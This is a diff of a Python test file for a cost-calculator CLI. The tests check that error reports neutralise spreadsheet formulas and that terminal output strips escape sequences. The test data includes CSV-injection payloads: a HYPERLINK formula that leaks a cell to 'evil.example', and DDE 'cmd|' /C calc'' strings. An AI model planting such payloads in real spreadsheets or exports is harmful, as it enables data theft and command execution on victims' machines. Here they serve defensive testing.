@@ -15,7 +15,7 @@ import pytest
 from click.testing import CliRunner
 
 from costcalc.cli import main
-from costcalc.safe_output import spreadsheet_cell, terminal_text
+from costcalc.safe_output import FORMULA_START, spreadsheet_cell, terminal_text
 from reports_marts_helper import SERVICE_USE, build_marts
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
@@ -93,9 +93,9 @@ def test_the_error_report_escapes_the_reason_and_the_value(tmp_path):
     assert res.exit_code == 1
     with open(folder / (name + ".errors.csv"), encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh))
-    assert rows[0] == ["row", "column", "value", "reason"]
-    reason = rows[1][3]
-    assert reason.startswith("'@SUM(1)+cmd")
+    assert rows[0][0].startswith("The file was not loaded: ")  # the summary line
+    assert rows[1] == ["row", "column", "value", "reason", "hint"]
+    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
     # a row-level rejection: the value is escaped too
     g = folder / "ta.csv"
     g.write_text("pin,postcode,surname,dob,startdate,cost,proptype\n"
@@ -103,7 +103,7 @@ def test_the_error_report_escapes_the_reason_and_the_value(tmp_path):
     CliRunner().invoke(main, ["--warehouse", str(tmp_path / "wh.duckdb"), "load", str(g)])
     with open(folder / "ta.csv.errors.csv", encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh))
-    assert rows[1][:3] == ["3", "cost", "'=1+1"] or rows[1][:3] == ["2", "cost", "'=1+1"]
+    assert ["2", "cost", "'=1+1"] in [r[:3] for r in rows[2:]]
 
 
 def test_load_output_strips_escape_sequences_from_file_names(tmp_path):
@@ -115,14 +115,11 @@ def test_load_output_strips_escape_sequences_from_file_names(tmp_path):
     assert "ta[2J.csv: loaded" in res.output
 
 
-def test_the_watchers_own_error_report_escapes_its_reason(tmp_path):
-    from costcalc.watch.folder import write_report
-    f = tmp_path / "=cmd.csv"
-    f.write_text("x")
-    report = write_report(f, "=cmd|' /C calc'!A0.csv: not a file type this provider may send")
-    with open(report, encoding="utf-8-sig", newline="") as fh:
-        rows = list(csv.reader(fh))
-    assert rows[1][3].startswith("'=cmd|")
+def test_the_watchers_own_error_report_escapes_its_reason():
+    from costcalc.watch.handling import refusal_report_rows
+    rows = refusal_report_rows("=cmd|' /C calc'!A0.csv: not a file type this provider may send")
+    assert rows[1] == ["row", "column", "value", "reason", "hint"]
+    assert rows[2][3].startswith("'=cmd|")
 
 
 def test_the_watchers_log_lines_carry_no_control_characters():
